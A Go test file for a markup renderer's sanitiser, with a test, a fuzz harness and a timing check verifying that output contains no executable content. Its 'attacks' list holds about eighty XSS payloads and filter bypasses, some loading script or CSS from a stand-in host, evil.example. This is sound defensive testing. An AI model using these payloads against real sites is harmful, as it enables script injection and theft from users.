package markup_test

import (
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/yuin/goldmark"
	goldmarkhtml "github.com/yuin/goldmark/renderer/html"
	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"nutgraph/internal/content"
	"nutgraph/internal/markup"
)

// attacks are ways to make a reader's browser run something, one for each
// door: elements, attributes, addresses, encodings, and the differences
// between parsers.
var attacks = []string{
	"<script>steal()</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"<scr<script>ipt>steal()</scr</script>ipt>",
	"<script>steal()",
	"<script/x>steal()</script >",
	"<img src=x onerror=steal()>",
	`<img src="https://e.org/a.png" onload="steal()">`,
	"<img src='https://e.org/a.png\" onerror=\"steal()'>",
	"<img src=`https://e.org/` onerror=steal()>",
	"<img src=javascript:steal()>",
	"<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
	"<image src=x onerror=steal()>",
	"<p onclick=steal()>a",
	"<p style=\"background:url(javascript:steal())\">a",
	"<style>@import '//evil.example/x.css';</style>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<meta http-equiv=refresh content='0;url=javascript:steal()'>",
	"<base href=javascript:steal()//>",
	"<iframe src=javascript:steal()></iframe>",
	"<iframe srcdoc='<script>steal()</script>'></iframe>",
	"<object data=javascript:steal()></object>",
	"<embed src=javascript:steal()>",
	"<svg onload=steal()>",
	"<svg><script>steal()</script></svg>",
	"<svg><a xlink:href=javascript:steal()><text>a</text></a></svg>",
	"<svg><style><img src=x onerror=steal()></style></svg>",
	"<math href=javascript:steal()>a</math>",
	"<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></table></mtext></math>",
	"<form action=javascript:steal()><button>a</button></form>",
	"<button formaction=javascript:steal()>a</button>",
	"<input autofocus onfocus=steal()>",
	"<details open ontoggle=steal()><summary>a</summary></details>",
	"<video><source onerror=steal()></video>",
	"<audio src=x onerror=steal()>",
	"<marquee onstart=steal()>a</marquee>",
	"<body onload=steal()>",
	"<table background=javascript:steal()><tr><td background=javascript:steal()>a",
	"<a href=javascript:steal()>a</a>",
	"<a href=' \tjava\nscript:steal()'>a</a>",
	"<a href='JaVaScRiPt:steal()'>a</a>",
	"<a href='&#106;avascript:steal()'>a</a>",
	"<a href='&#x6A&#x61vascript&colon;steal()'>a</a>",
	"<a href='java&#0;script:steal()'>a</a>",
	"<a href='\x01javascript:steal()'>a</a>",
	"<a href='java\u200bscript:steal()'>a</a>",
	"<a href='vbscript:steal()'>a</a>",
	"<a href='data:text/html,<script>steal()</script>'>a</a>",
	"<a href='https://user@evil.example' onmouseover=steal()>a</a>",
	"<a href=\"https://e.org/\" target=_blank rel=opener>a</a>",
	"<noscript><p title='</noscript><img src=x onerror=steal()>'>",
	"<textarea><img src='</textarea><img src=x onerror=steal()>'>",
	"<title><img src='</title><img src=x onerror=steal()>'></title>",
	"<xmp><p title='</xmp><img src=x onerror=steal()>'>",
	"<plaintext><img src=x onerror=steal()>",
	"<template><script>steal()</script></template>",
	"<!--><script>steal()</script>-->",
	"<!-- --!><img src=x onerror=steal()> -->",
	"<![CDATA[<script>steal()</script>]]>",
	"<?xml version='1.0'?><script>steal()</script>",
	"<p title='\"><script>steal()</script>'>a",
	"<select><script>steal()</script></select>",
	"<isindex type=image src=x onerror=steal()>",
	"<custom-element onclick=steal() is=x>a</custom-element>",
	"[a](javascript:steal())",
	"[a](JAVASCRIPT&colon;steal())",
	"[a](<javascript:steal()>)",
	"[a]\n\n[a]: javascript:steal()",
	"![a](javascript:steal())",
	"![a\" onerror=\"steal()](https://e.org/a.png)",
	"![a](https://e.org/a.png 'x\" onerror=\"steal()')",
	"[a](data:text/html;base64,PHNjcmlwdD4=)",
	"<javascript:steal()>",
	"```\"><script>steal()</script>\na\n```",
	"`<script>steal()</script>`",
	"| a<script>steal()</script> |\n|---|\n| <img src=x onerror=steal()> |",
	"<div\n\nonclick=steal()>",
	"[^1]\n\n[^1]: <img src=x onerror=steal()>",
	"\x00<script>steal()</script>",
	"<scr\x00ipt>steal()</script>",
	"\xff<script>steal()</script>\xfe",
}

func TestNothingExecutable(t *testing.T) {
	t.Parallel()
	for _, source := range attacks {
		checkEveryForm(t, source)
		checkEveryForm(t, "before "+source+" after")
	}
}

func FuzzRender(f *testing.F) {
	for _, source := range attacks {
		f.Add(source)
	}
	f.Add("# A\n\n- b\n  > c\n\n|a|\n|-|\n|b|\n\n1. d [e](https://e.org) ![f](https://e.org/g.png)\n")
	f.Add("<figure><img src='https://e.org/a.png'><figcaption>b</figcaption></figure><table><tr><td>c</table>")
	f.Fuzz(func(t *testing.T, source string) {
		checkEveryForm(t, source)
	})
}

// checkEveryForm renders a source as each format and checks what is promised
// of any output.
func checkEveryForm(t *testing.T, source string) {
	t.Helper()
	for _, format := range []content.Format{content.Markdown, content.HTML, content.Text} {
		body, err := markup.Render(source, format)
		if err != nil {
			continue
		}
		if body.Source != source {
			t.Errorf("Render(%q, %s).Source = %q", source, format, body.Source)
		}
		checkSafe(t, source, body.HTML)
		checkPlain(t, source, body.Text)
		if format != content.Markdown {
			checkMarkdown(t, source, body.Markdown)
		}
		if again, err := markup.Render(source, format); err != nil || again != body {
			t.Errorf("Render(%q, %s) differs the second time", source, format)
		}
	}
}

// trusting renders Markdown as a careless client would.
var trusting = goldmark.New(goldmark.WithRendererOptions(goldmarkhtml.WithUnsafe()))

// checkMarkdown checks Markdown that we wrote: it is safe even for a client
// that renders it without a sanitiser.
func checkMarkdown(t *testing.T, source, markdown string) {
	t.Helper()
	var out strings.Builder
	if err := trusting.Convert([]byte(markdown), &out); err != nil {
		t.Errorf("Render(%q).Markdown = %q: %v", source, markdown, err)
	}
	checkSafe(t, source, out.String())
}

// checkSafe parses the output as a browser would and walks it.
func checkSafe(t *testing.T, source, out string) {
	t.Helper()
	if !utf8.ValidString(out) || strings.ContainsRune(out, 0) {
		t.Errorf("Render(%q).HTML is not clean UTF-8: %q", source, out)
	}
	nodes, err := html.ParseFragment(strings.NewReader(out), &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body})
	if err != nil {
		t.Errorf("Render(%q).HTML cannot be parsed: %v", source, err)
	}
	for _, n := range nodes {
		walk(t, source, out, n)
	}
}

var allowedAttributes = " alt align cite class colspan datetime dir height href id lang open rel rowspan scope src start title value width "

func walk(t *testing.T, source, out string, n *html.Node) {
	t.Helper()
	if n.Type == html.CommentNode && strings.TrimSpace(n.Data) != "THE END" || n.Namespace != "" {
		t.Errorf("Render(%q).HTML = %q has a comment or a foreign element", source, out)
	}
	switch n.DataAtom {
	case atom.Script, atom.Style, atom.Iframe, atom.Object, atom.Embed, atom.Svg, atom.Math, atom.Form, atom.Input, atom.Button,
		atom.Base, atom.Meta, atom.Link, atom.Noscript, atom.Template, atom.Video, atom.Audio, atom.Textarea, atom.Title, atom.Plaintext:
		t.Errorf("Render(%q).HTML = %q has <%s>", source, out, n.Data)
	}
	for _, a := range n.Attr {
		if a.Namespace != "" || !strings.Contains(allowedAttributes, " "+a.Key+" ") {
			t.Errorf("Render(%q).HTML = %q has attribute %s", source, out, a.Key)
		}
		switch a.Key {
		case "href", "src", "cite":
			if scheme := browserScheme(a.Val); !slices.Contains([]string{"http", "https", "mailto", "tel"}, scheme) {
				t.Errorf("Render(%q).HTML = %q has the address %q", source, out, a.Val)
			}
		}
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		walk(t, source, out, c)
	}
}

// browserScheme reads the scheme of an address as browsers do, which drop
// white space and control characters first. A relative address is "http".
func browserScheme(address string) string {
	address = strings.Map(func(r rune) rune {
		if r <= ' ' {
			return -1
		}
		return r
	}, address)
	scheme, _, found := strings.Cut(address, ":")
	if !found || strings.ContainsAny(scheme, "/?#") {
		return "http"
	}
	return strings.ToLower(scheme)
}

// checkPlain checks the shape that summaries rely on.
func checkPlain(t *testing.T, source, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("Render(%q).Text is not UTF-8: %q", source, text)
	}
	if text == "" {
		return
	}
	for p := range strings.SplitSeq(text, "\n\n") {
		if content.Blank(p) || strings.ContainsAny(p, "\n\r\t\x00\v\f\x7f") || strings.TrimSpace(p) != p || strings.Contains(p, "  ") {
			t.Errorf("Render(%q).Text = %q has the paragraph %q", source, text, p)
		}
	}
}

func TestUnclosedCodeSpansTakeBoundedTime(t *testing.T) {
	t.Parallel()
	source := strings.Repeat("`", 50_000) + "a" + strings.Repeat(" ``a", 50_000)
	done := make(chan error, 1)
	go func() {
		_, err := markup.Render(source, content.Markdown)
		done <- err
	}()
	select {
	case err := <-done:
		if err != nil {
			t.Error(err)
		}
	case <-time.After(time.Minute): // far below a second, but for the race detector on a busy machine
		t.Error("a paragraph of unclosed code spans takes more than a minute")
	}
}
